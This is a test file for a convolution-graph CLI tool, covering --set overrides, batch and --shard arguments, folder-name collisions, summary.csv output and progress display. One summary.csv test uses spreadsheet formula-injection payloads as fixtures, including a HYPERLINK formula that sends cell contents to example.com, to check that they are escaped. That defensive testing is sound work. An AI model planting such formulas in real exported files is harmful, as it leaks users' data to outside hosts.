import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { main } from '../../src-main/cli/main';
import { type BatchInput, checkStems } from '../../src-main/cli/batch';
import { applyAssignments, parseAssignment } from '../../src-main/cli/overrides';
import { ProgressDisplay } from '../../src-main/cli/progress';
import { parseRunArguments } from '../../src-main/cli/run';
import { parseShard, shardOf } from '../../src-main/cli/shard';
import { type SummaryRow, summaryCsv } from '../../src-main/cli/summary';
import type { GraphDocument } from '../../src-shared/graph/document';
import { capture, edgesOf, tempDir, writeGraph } from './helpers';
import { parseCsv } from './csv';
import { readNpy } from './npy';

/** One node of each param kind --set reads. */
function document(): GraphDocument {
  return {
    format: 'convolab.graph',
    version: 2,
    nodes: [
      { id: 'g', type: 'kernel.gaussian', params: { sigma: 2 } },
      { id: 'my.seq', type: 'source.sequence', params: { values: [1, 2] } },
      { id: 'conv', type: 'op.convolve' },
      { id: 'custom', type: 'kernel.custom' },
      { id: 'in', type: 'source.audio', params: { path: '' } },
      { id: 'fn', type: 'source.function', params: { t0: 0, t1: 1 } },
      { id: 'p', type: 'sink.plot' },
    ],
    edges: edgesOf([['my.seq', 'out', 'p', 'in']]),
  };
}

const set = (...texts: string[]): GraphDocument => applyAssignments(document(), texts.map((text) => parseAssignment('--set', text)));
const paramsOf = (doc: GraphDocument, id: string): unknown => doc.nodes.find((node) => node.id === id)?.params;

describe('--set NODE.PARAM=VALUE', () => {
  it('reads VALUE by the kind the node gives the param', () => {
    expect(paramsOf(set('g.sigma=2.5e-1'), 'g')).toEqual({ sigma: 0.25 });
    expect(paramsOf(set('g.normalize=false'), 'g')).toEqual({ sigma: 2, normalize: false });
    expect(paramsOf(set('conv.method=direct'), 'conv')).toEqual({ method: 'direct' });
    expect(paramsOf(set('in.path=a=b.wav'), 'in')).toEqual({ path: 'a=b.wav' });
    expect(paramsOf(set('my.seq.values=[3, -1.5]'), 'my.seq')).toEqual({ values: [3, -1.5] });
    expect(paramsOf(set('my.seq.values=4,5,6'), 'my.seq')).toEqual({ values: [4, 5, 6] });
    expect(paramsOf(set('custom.values=[[0,1],[1,0]]'), 'custom')).toEqual({ values: [[0, 1], [1, 0]] });
    // The last of two for one param wins, and the document given is left as it was.
    const original = document();
    const changed = applyAssignments(original, [parseAssignment('--set', 'g.sigma=3'), parseAssignment('--set', 'g.sigma=4')]);
    expect(paramsOf(changed, 'g')).toEqual({ sigma: 4 });
    expect(paramsOf(original, 'g')).toEqual({ sigma: 2 });
  });

  it('refuses what a file would refuse, in one line naming the --set, exit 2, writing nothing', async () => {
    const dir = tempDir();
    const graph = writeGraph(dir, document().nodes, [['my.seq', 'out', 'p', 'in']]);
    const out = join(dir, 'out');
    for (const [assignment, message] of [
      ['g.sigma=-1', '--set g.sigma=-1: must be > 0 (got -1)'],
      ['g.sigma=wide', '--set g.sigma=wide: must be a number (got "wide")'],
      ['g.sigma=1e999', '--set g.sigma=1e999: must be a number (got Infinity)'],
      ['g.radius=1.5', '--set g.radius=1.5: must be a whole number (got 1.5)'],
      ['g.normalize=yes', '--set g.normalize=yes: must be true or false (got "yes")'],
      ['conv.method=fast', '--set conv.method=fast: must be one of auto, direct, fft, overlap-add (got "fast")'],
      ['my.seq.values=[1,"x"]', '--set my.seq.values=[1,"x"]: [1] must be a number (got "x") (write a list as JSON, e.g. [1,2,3], or as 1,2,3)'],
      ['fn.t1=0', '--set fn.t1=0: fn.t1: must be greater than t0 (got t0 = 0, t1 = 0)'],
      ['nope.sigma=1', '--set nope.sigma: the graph has no node "nope" (its nodes: g, my.seq, conv, custom, in, fn, p)'],
      ['g.sigmas=1', '--set g.sigmas: kernel.gaussian has no param "sigmas" (it has dims, sigma, radius, normalize)'],
      ['sigma=1', '--set sigma=1: name the node and its param as NODE.PARAM, e.g. --set blur.sigma=2'],
      ['g.sigma', '--set g.sigma: write NODE.PARAM=VALUE, e.g. --set blur.sigma=2'],
    ] as const) {
      const io = capture();
      expect(await main(['run', graph, '--out', out, '--set', assignment], io), assignment).toBe(2);
      expect(io.err).toBe(`convolab: ${message}\n`);
      expect(existsSync(out)).toBe(false);
    }
  });

  it('changes what the run computes', async () => {
    const dir = tempDir();
    const graph = writeGraph(dir, [{ id: 'seq', type: 'source.sequence', params: { values: [1, 2] } }, { id: 'plot', type: 'sink.plot' }], [['seq', 'out', 'plot', 'in']]);
    const out = join(dir, 'o');
    expect(await main(['run', graph, '--out', out, '--set', 'seq.values=[7,8,9]', '--set', 'seq.start=-1'], capture())).toBe(0);
    expect(Array.from(readNpy(readFileSync(join(out, 'plot.npy'))).data)).toEqual([7, 8, 9]);
    expect(JSON.parse(readFileSync(join(out, 'plot.json'), 'utf8'))).toMatchObject({ start: -1, length: 3 });
  });
});

describe('run arguments for a batch', () => {
  it('reads --each, -j in its three spellings, --shard and repeated --set', () => {
    const base = ['g.json', '--out', 'o', '--each', 'in.path=data/*.wav'];
    expect(parseRunArguments([...base, '-j', '3', '--shard', '1/4', '--set', 'a.b=1', '--set', 'c.d=2'], '/w')).toMatchObject({
      graph: '/w/g.json',
      out: '/w/o',
      jobs: 3,
      shard: { index: 1, count: 4 },
      each: { node: 'in', param: 'path', text: 'data/*.wav' },
      sets: [{ node: 'a', param: 'b', text: '1' }, { node: 'c', param: 'd', text: '2' }],
    });
    expect(parseRunArguments([...base, '-j2'], '/w').jobs).toBe(2);
    expect(parseRunArguments([...base, '--jobs', '5'], '/w').jobs).toBe(5);
    expect(parseRunArguments(['g.json', '--out', 'o'], '/w')).not.toHaveProperty('jobs');
  });

  it('refuses a bad -j, batch options without --each, two --each, and says to quote a glob the shell expanded', async () => {
    for (const [args, message] of [
      [['-j', '0', '--each', 'in.path=*.wav'], '-j 0: say how many graphs to run at once, 1 to 256 (default: one per core)'],
      [['-j', 'many', '--each', 'in.path=*.wav'], '-j many: say how many graphs to run at once, 1 to 256 (default: one per core)'],
      [['-j', '2'], 'run: -j applies to a batch: add --each NODE.PARAM=GLOB'],
      [['--shard', '0/2'], 'run: --shard applies to a batch: add --each NODE.PARAM=GLOB'],
      [['--each', 'a.path=*.wav', '--each', 'b.path=*.wav'], 'run: one --each only (a batch runs over one list of files)'],
      [['--each', 'in.path=data/a.wav', 'data/b.wav'], 'run: one graph file only (got g.json and data/b.wav): quote the --each glob so the shell passes it on'],
      [['--each'], '--each needs NODE.PARAM=GLOB'],
    ] as const) {
      const io = capture();
      expect(await main(['run', 'g.json', '--out', 'o', ...args], io)).toBe(2);
      expect(io.err).toBe(`convolab: ${message}\n`);
    }
  });
});

describe('--shard K/N', () => {
  it('reads K from 0 to N − 1 and refuses anything else in one line that says what to write', () => {
    expect(parseShard('0/1')).toEqual({ index: 0, count: 1 });
    expect(parseShard('3/4')).toEqual({ index: 3, count: 4 });
    for (const [text, message] of [
      ['4/4', '--shard 4/4: K counts from 0, so it must be 0 to 3 (with Slurm, use --array=0-3)'],
      ['/4', '--shard /4: K is missing (is the variable that should give it, e.g. $SLURM_ARRAY_TASK_ID or $JOB_COMPLETION_INDEX, set?)'],
      ['1/', '--shard 1/: N is missing: write K/N, e.g. --shard 0/4'],
      ['0/0', '--shard 0/0: N must be 1 to 1000000 (got 0)'],
      ['-1/4', '--shard -1/4: write K/N, e.g. --shard 0/4 for the first of 4 slices (K counts from 0)'],
      ['1of4', '--shard 1of4: write K/N, e.g. --shard 0/4 for the first of 4 slices (K counts from 0)'],
      ['99999999999999999999/4', '--shard 99999999999999999999/4: K counts from 0, so it must be 0 to 3 (with Slurm, use --array=0-3)'],
    ] as const) {
      expect(() => parseShard(text)).toThrow(message);
    }
  });

  it('deals every input to exactly one shard, in order, the shards within one input of each other in size', () => {
    fc.assert(
      fc.property(fc.uniqueArray(fc.string(), { maxLength: 60 }), fc.integer({ min: 1, max: 25 }), (inputs, count) => {
        const shards = Array.from({ length: count }, (_, index) => shardOf(inputs, { index, count }));
        const seen = shards.flat();
        expect([...seen].sort()).toEqual([...inputs].sort());
        for (const shard of shards) expect(shard).toEqual(inputs.filter((input) => shard.includes(input)));
        const sizes = shards.map((shard) => shard.length);
        expect(Math.max(...sizes) - Math.min(...sizes)).toBeLessThanOrEqual(1);
      }),
      { numRuns: 300 },
    );
  });
});

describe('input folders', () => {
  const input = (shown: string, stem: string): BatchInput => ({ path: `/data/${shown}`, shown, stem });

  it('refuses two inputs whose folders one macOS or Windows disk would take for one', () => {
    // Files from a Linux disk may name é both ways; macOS opens either name as the one folder.
    const composed = 'caf\u00e9', decomposed = 'cafe\u0301';
    for (const [a, b] of [
      [input(`a/${composed}.wav`, composed), input(`b/${decomposed}.wav`, decomposed)],
      [input('a/take1.wav', 'take1'), input('b/take1..wav', 'take1.')],
      [input('a/Take1.wav', 'Take1'), input('b/take1 .wav', 'take1 ')],
    ] as const) {
      expect(() => checkStems([a, b])).toThrow(new RegExp(`^--each: ${a.shown} and ${b.shown.replace('.', '\\.')} would both write their results to `));
    }
    expect(() => checkStems([input('a/take1.wav', 'take1'), input('b/take1a.wav', 'take1a'), input(`c/${composed}.wav`, composed)])).not.toThrow();
  });
});

describe('summary.csv', () => {
  it('quotes as RFC 4180 says, ends records in CRLF, and gives each value field a column', () => {
    const rows: SummaryRow[] = [
      { input: 'data/a,1.wav', output: 'a,1', status: 'ok', ms: 12.345, error: '', values: [['stats', { sum: 1.5, max: Infinity }]] },
      { input: 'data/b.wav', output: 'b', status: 'failed', ms: 3, error: 'in (source.audio): "b.wav": not a WAV,\nsee', values: [] },
      { input: 'data/c.wav', output: 'c', status: 'check failed', ms: 4, error: 'cmp: no match', values: [['stats', { sum: -2, mean: NaN }], ['cmp', { match: 0 }]] },
    ];
    const text = summaryCsv(rows);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(parseCsv(text)).toEqual([
      ['input', 'output', 'status', 'ms', 'error', 'stats.sum', 'stats.max', 'stats.mean', 'cmp.match'],
      ['data/a,1.wav', 'a,1', 'ok', '12.3', '', '1.5', 'Infinity', '', ''],
      ['data/b.wav', 'b', 'failed', '3', 'in (source.audio): "b.wav": not a WAV,\\u000Asee', '', '', '', ''],
      ['data/c.wav', 'c', 'check failed', '4', 'cmp: no match', '-2', '', 'NaN', '0'],
    ]);
  });

  it("writes a text a spreadsheet would run as a formula with a leading ', and numbers as they are", () => {
    // The files and the graph come from others: a file name, a sink's id, an error quoting a param.
    const rows: SummaryRow[] = [
      { input: '=HYPERLINK("https://example.com/?"&A3,"open").wav', output: '=HYPERLINK("https://example.com/?"&A3,"open")', status: 'ok', ms: 1, error: '', values: [['@SUM(A1)', { sum: -2 }]] },
      { input: '+1.wav', output: '+1', status: 'failed', ms: 2, error: '-2+3 is not a path', values: [] },
      { input: 'plain=1.wav', output: 'plain=1', status: 'ok', ms: 3, error: '', values: [] },
    ];
    expect(parseCsv(summaryCsv(rows))).toEqual([
      ['input', 'output', 'status', 'ms', 'error', "'@SUM(A1).sum"],
      [`'=HYPERLINK("https://example.com/?"&A3,"open").wav`, `'=HYPERLINK("https://example.com/?"&A3,"open")`, 'ok', '1', '', '-2'],
      ["'+1.wav", "'+1", 'failed', '2', "'-2+3 is not a path", ''],
      ['plain=1.wav', 'plain=1', 'ok', '3', '', ''],
    ]);
  });
});

describe('batch progress on stderr', () => {
  const row = (input: string, status: SummaryRow['status']): SummaryRow => ({ input, output: input, status, ms: 5, error: status === 'ok' ? '' : 'broken', values: [] });

  it('prints one plain line per input when stderr is not a terminal', () => {
    let text = '';
    const progress = new ProgressDisplay({ total: 2, terminal: false, write: (part) => (text += part) });
    progress.add(row('a.wav', 'ok'));
    progress.add(row('b.wav', 'failed'));
    progress.finish();
    expect(text).toBe('[1/2] ok a.wav (5.0 ms)\n[2/2] failed b.wav: broken\n');
  });

  it('redraws one bar in place on a terminal, with each failure printed above it', () => {
    let text = '';
    let clock = 0;
    const progress = new ProgressDisplay({ total: 4, terminal: true, write: (part) => (text += part), now: () => clock });
    clock = 1000;
    progress.add(row('a.wav', 'ok'));
    progress.add(row('b.wav', 'failed'));
    expect(text.split('\n')).toEqual([
      '[........................] 0/4\r\u001b[K[######..................] 1/4, 1.0 files/s\r\u001b[K[2/4] failed b.wav: broken',
      '\r\u001b[K[############............] 2/4, 1 failed, 2.0 files/s',
    ]);
    progress.finish();
    expect(text.endsWith('\n')).toBe(true);
  });
});
